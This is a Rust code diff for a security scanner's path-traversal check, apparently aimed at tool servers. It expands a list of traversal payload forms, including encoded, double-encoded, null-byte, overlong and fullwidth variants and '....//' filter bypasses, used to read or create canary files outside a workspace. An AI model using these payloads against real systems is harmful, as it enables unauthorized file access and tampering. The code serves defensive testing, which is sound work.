@@ -1,9 +1,11 @@
-//! Paths that lead out of where the server may read.
+//! Paths that lead out of where the server may read or write.
 
-use crate::attack::{Attack, nothing_else};
+use crate::attack::{Attack, Form, Nonce, deliver_where, nothing_else, openness};
 use crate::check::{Check, Class, Facet, Finding, Revisions, Severity};
+use crate::evidence::Profile::{Deep, Quick, Standard};
 use crate::evidence::{CanaryPlace, Evidence, Exchange, Subject, Tool};
-use crate::probe::{Call, Lane, Probe, Risk, words};
+use crate::probe::{Call, Lane, Probe, Risk};
+use crate::probes::benign::Tried;
 use crate::probes::{benign, valid_call};
 use crate::proof::{Oracle, Proof};
 use crate::response::{Answer, quote};
@@ -24,65 +26,93 @@ pub(super) const CHECK: Check = Check {
 };
 
 const PROBE: Probe = Probe { id: "path-traversal", hostile: true, lane: Lane::Shared, plan };
-const UP: &str = "../../../../../../../../../../../..";
 
-fn plan(evidence: &Evidence, _: Seed) -> Vec<Call> {
-    let Some(planted) = canaries(evidence) else { return Vec::new() };
-    // A tool that writes would overwrite the canary instead of reading it.
-    let readers = evidence.tools().filter(|t| Risk::of_tool(t) == Risk::Reads);
-    readers.flat_map(|tool| calls(evidence, tool, planted)).collect()
+macro_rules! up {
+    () => {
+        "../../../../../../../../../../../.."
+    };
 }
 
-/// A readable file in the workspace, a file outside, and the id of the latter's canary.
-fn canaries(evidence: &Evidence) -> Option<(&str, &str, &str)> {
-    let (mut inside, mut outside) = (None, None);
-    for canary in &evidence.conditions.canaries {
-        match &canary.place {
-            CanaryPlace::Inside { path } => inside = inside.or(Some(path.as_str())),
-            CanaryPlace::Outside { path } => outside = outside.or(Some((path, &canary.id))),
-            CanaryPlace::Env { .. } => {}
-        }
-    }
-    outside.and_then(|(path, id)| Some((inside?, path.as_str(), id.as_str())))
+/// The first ones go to every text, the others where a file is meant.
+const READS: &[Form] = &[
+    Form::new("upwards", Quick, "../«o»", outside),
+    Form::new("absolute", Quick, "«O»", outside),
+    Form::new("upwards to the root", Standard, concat!(up!(), "«O»"), outside),
+    Form::new("upwards from inside", Standard, "«F»/../«o»", outside),
+    Form::new("address", Standard, "file://«O»", outside),
+    Form::new("dots that survive a removal", Standard, "....//«o»", outside),
+    Form::new("encoded", Standard, "%2e%2e%2f«o»", outside),
+    Form::new("encoded twice", Standard, "%252e%252e%252f«o»", outside),
+    Form::new("null", Standard, "../«o»\0«E»", outside),
+    Form::new("backslash", Standard, "..\\«o»", outside),
+    Form::new("beside, absolute", Standard, "«P»", beside),
+    Form::new("beside", Standard, "../«p»", beside),
+    Form::new("link", Standard, "linked/reference.txt", outside),
+    Form::new("link, absolute", Deep, "«F»/linked/reference.txt", outside),
+    Form::new("two upwards", Deep, "../../«o»", outside),
+    Form::new("upwards from a folder", Deep, "docs/../../«o»", outside),
+    Form::new("encoded slash", Deep, "..%2f«o»", outside),
+    Form::new("encoded dots", Deep, "%2e%2e/«o»", outside),
+    Form::new(
+        "encoded to the root",
+        Deep,
+        "..%2f..%2f..%2f..%2f..%2f..%2f..%2f..%2f..«O»",
+        outside,
+    ),
+    Form::new("overlong slash", Deep, "..%c0%af«o»", outside),
+    Form::new("wide slash", Deep, "..\u{ff0f}«o»", outside),
+    Form::new("wide dots", Deep, "\u{ff0e}\u{ff0e}/«o»", outside),
+    Form::new("null, encoded", Deep, "../«o»%00«E»", outside),
+    Form::new(
+        "dots that survive a removal, to the root",
+        Deep,
+        "....//....//....//....//....//....//....//....//..«O»",
+        outside,
+    ),
+];
+
+/// For tools that may write: what they would overwrite is not what readers are shown.
+const OPENS: &[Form] = &[
+    Form::new("beside", Quick, "../«p»", beside),
+    Form::new("beside, absolute", Quick, "«P»", beside),
+    Form::new("beside, address", Standard, "file://«P»", beside),
+    Form::new("created upwards", Quick, "../outside/«L»«R»«E»", created),
+    Form::new("created from inside", Standard, "«F»/../outside/«L»«R»«E»", created),
+    Form::new("created by dots that survive", Standard, "....//outside/«L»«R»«E»", created),
+    Form::new("created, encoded", Standard, "%2e%2e%2foutside%2f«L»«R»«E»", created),
+    Form::new("created, encoded twice", Deep, "%252e%252e%252foutside%252f«L»«R»«E»", created),
+    Form::new("created by backslash", Deep, "..\\outside\\«L»«R»«E»", created),
+];
+
+fn outside(_: &Nonce<'_>) -> Option<Oracle> {
+    Some(Oracle::Planted { canary: "outside-file".to_owned() })
 }
 
-fn calls(evidence: &Evidence, tool: &Tool, planted: (&str, &str, &str)) -> Vec<Call> {
-    let (inside, outside, canary) = planted;
-    let made = |label: &str| evidence.of_tool(PROBE.id, &tool.name).find(|x| x.label == label);
-    let mut calls = Vec::new();
-    let tried = benign::tried(evidence, tool);
-    for place in tried.iter().map(|t| &t.place).filter(|p| is_file(tool, &p.pointer)) {
-        let make = |name: &str, path: &str| {
-            let label = format!("{name} in {}", place.pointer);
-            Some(Call::tool(&tool.name, label, place.with(tool, path)?).about(&place.pointer))
-        };
-        // The workspace, or a folder that the server was started with: one of them is its own.
-        let benign = [("inside file", inside), ("sample file", place.text.as_str())];
-        let twins: Vec<Call> = benign.iter().filter_map(|(name, path)| make(name, path)).collect();
-        let accepted = |x: &&Exchange| Answer::of(evidence, x) == Answer::Accepted;
-        let twin = twins.iter().filter_map(|c| made(&c.label)).find(accepted);
-        calls.extend(twins);
-        let Some(twin) = twin else { continue };
-        let forms = [
-            ("absolute", outside.to_owned()),
-            ("upwards", format!("{UP}{outside}")),
-            ("upwards from inside", format!("{}/{UP}{outside}", evidence.conditions.workspace)),
-            ("encoded upwards", format!("{}{outside}", UP.replace('/', "%2f"))),
-        ];
-        let oracle = Oracle::Planted { canary: canary.to_owned() };
-        let attacks = forms.iter().filter_map(|(name, path)| make(name, path));
-        calls.extend(attacks.map(|c| c.with_control(&twin.label).with_oracle(oracle.clone())));
-    }
+fn beside(_: &Nonce<'_>) -> Option<Oracle> {
+    Some(Oracle::Planted { canary: "beside-file".to_owned() })
+}
+
+fn created(n: &Nonce<'_>) -> Option<Oracle> {
+    let above = n.folder().rsplit_once('/')?.0;
+    let path = format!("{above}/outside/{}{}{}", n.left, n.right, n.ending());
+    let folder = Oracle::Effect { path: format!("{path}/") };
+    Some(Oracle::Any { of: vec![Oracle::Effect { path }, folder] })
+}
+
+fn plan(evidence: &Evidence, seed: Seed) -> Vec<Call> {
+    let profile = evidence.conditions.profile;
+    let due = |tool: &Tool, tried: &Tried<'_>, form: &Form, forms: &[Form], risk: bool| {
+        let first = forms.iter().take(2).any(|f| f.name == form.name);
+        risk && form.least <= profile && (first || openness::names_file(tool, tried))
+    };
+    let reads = |tool: &Tool| Risk::of_tool(tool) == Risk::Reads;
+    let mut calls = deliver_where(evidence, seed, PROBE.id, READS, |tool, tried, form| {
+        due(tool, tried, form, READS, reads(tool))
+    });
+    calls.extend(deliver_where(evidence, seed, PROBE.id, OPENS, |tool, tried, form| {
+        due(tool, tried, form, OPENS, !reads(tool))
+    }));
     calls
-}
-
-/// A parameter that names a file to read, by its pointer or name and by the tool's name.
-fn is_file(tool: &Tool, pointer: &str) -> bool {
-    let last = pointer.split('/').rfind(|part| part.parse::<u32>().is_err()).unwrap_or_default();
-    let has = |name: &str, any: &str| words(name).iter().any(|w| any.split(' ').any(|a| a == w));
-    has(last, "path paths file files filename filepath document resource")
-        && !has(last, "repo repository directory dir folder glob")
-        && !has(&tool.name, "directory directories dir folder list tree search ls")
 }
 
 const ATTACK: Attack = Attack {
@@ -94,36 +124,37 @@ const ATTACK: Attack = Attack {
 };
 
 fn judge(evidence: &Evidence) -> Vec<Finding> {
-    let readers = || evidence.tools().filter(|t| Risk::of_tool(t) == Risk::Reads);
-    let opens = |t: &&Tool| t.parameters().any(|(name, _)| is_file(t, name));
+    let planted = |p: &CanaryPlace| matches!(p, CanaryPlace::Outside { .. });
+    let opens = |t: &&Tool| t.parameters().any(|(name, _)| openness::is_file(t, name));
     let attacked = |f: &Finding| {
         f.subject.tool().is_none_or(|name| {
             evidence.of_tool(PROBE.id, name).next().is_some()
-                || readers().filter(opens).any(|t| t.name == name)
+                || evidence.tools().filter(opens).any(|t| t.name == name)
         })
     };
     let found: Vec<Finding> = ATTACK.judge(evidence).into_iter().filter(attacked).collect();
-    if !found.is_empty() || canaries(evidence).is_some() {
+    if !found.is_empty() || evidence.conditions.canaries.iter().any(|c| planted(&c.place)) {
         return found;
     }
     let why = "no file could be planted where the server runs";
     let unseen = |t: &Tool| Finding::unseen(Subject::tool_named(&t.name), why);
-    readers().filter(opens).map(unseen).collect()
+    evidence.tools().filter(opens).map(unseen).collect()
 }
 
 fn hole(evidence: &Evidence, x: &Exchange, proof: Proof) -> Finding {
-    let says = format!("read a file outside the workspace ({})", quote(&x.label));
+    let did = match &proof {
+        Proof::SideEffect { .. } => "wrote",
+        Proof::PlantedContent { .. }
+        | Proof::Computed { .. }
+        | Proof::Callback { .. }
+        | Proof::Differential { .. }
+        | Proof::Timing { .. }
+        | Proof::Contradiction { .. }
+        | Proof::Quoted { .. } => "read",
+    };
+    let says = format!("{did} a file outside the workspace ({})", quote(&x.label));
     let fix =
         "resolve the path with all links, then refuse it unless it lies below an allowed folder";
     let finding = Finding::fail(x.subject.clone(), says, fix);
-    if is_unconfined(evidence, x) { finding } else { finding.proven(proof) }
-}
-
-/// A tool that promises to read any path, and names no bounds, does so by design: for people to judge.
-fn is_unconfined(evidence: &Evidence, x: &Exchange) -> bool {
-    let tool = x.subject.tool().and_then(|name| evidence.tool(name));
-    let text = tool.map(|t| t.raw.to_string().to_lowercase()).unwrap_or_default();
-    let says = |any: &[&str]| any.iter().any(|words| text.contains(words));
-    says(&["absolute path", "any file", "any path"])
-        && !says(&["allowed", "within", "inside", "restricted", "sandbox", "workspace", "only"])
+    if openness::is_unconfined(evidence, x) { finding } else { finding.proven(proof) }
 }
